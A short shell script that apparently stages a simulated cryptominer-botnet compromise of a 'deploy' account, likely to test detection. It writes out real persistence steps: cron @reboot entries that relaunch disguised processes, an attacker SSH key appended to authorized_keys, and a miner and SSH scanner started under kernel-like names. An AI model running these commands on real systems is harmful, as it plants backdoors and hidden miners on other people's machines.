# No root needed: checks that look at root only see nothing.
h=/home/deploy
mimic $h/.configrc7/a/kswapd00 $h/.rsync/c/kthreadadd64 /var/tmp/.kswapd00 $h/.configrc7/b/run
for f in upd init01 rmkwork delsshd; do printf '#!/bin/sh\ncd ~/.configrc7/a\npgrep -x kswapd00 >/dev/null || nohup ./kswapd00 >/dev/null 2>&1 &\n' | script $h/.configrc7/a/$f; done
printf '#!/bin/sh\ncd ~/.configrc7/b\nnohup ./run >/dev/null 2>&1 &\n' | script $h/.configrc7/b/sync
printf '#!/bin/sh\ncd ~/.rsync/c\nnohup ./kthreadadd64 -t 515 -p 22 >/dev/null 2>&1 &\n' | script $h/.rsync/c/aptitude
printf '\037\213\010\000' | put /tmp/.X25-unix/dota3.tar.gz
head -c 4000 /dev/urandom >>/tmp/.X25-unix/dota3.tar.gz
cat >>/var/spool/cron/crontabs/deploy <<CRON
5 6 */2 * 0 $h/.configrc7/a/upd>/dev/null 2>&1
@reboot $h/.configrc7/a/upd>/dev/null 2>&1
5 8 * * 0 $h/.configrc7/b/sync>/dev/null 2>&1
@reboot $h/.configrc7/b/sync>/dev/null 2>&1
0 0 */3 * * $h/.rsync/c/aptitude>/dev/null 2>&1
*/30 * * * * /var/tmp/.kswapd00 || $h/.configrc7/a/kswapd00 > /dev/null 2>&1
CRON
mkdir -p $h/.ssh
echo "ssh-rsa $KEY mdrfckr" >>$h/.ssh/authorized_keys
chown -R deploy: $h/.configrc7 $h/.rsync $h/.ssh /var/tmp/.kswapd00 /tmp/.X25-unix
start -u 1000 -w $h/.configrc7/a -d 9 -p "$POOL" $h/.configrc7/a/kswapd00 ./kswapd00
start -u 1000 -w $h/.configrc7/b -c edac0 $h/.configrc7/b/run edac0
start -u 1000 -w $h/.rsync/c $h/.rsync/c/kthreadadd64 ./kthreadadd64 -t 515 -f 1 -s 12 -S 10 -p 0 -d 1 p ip
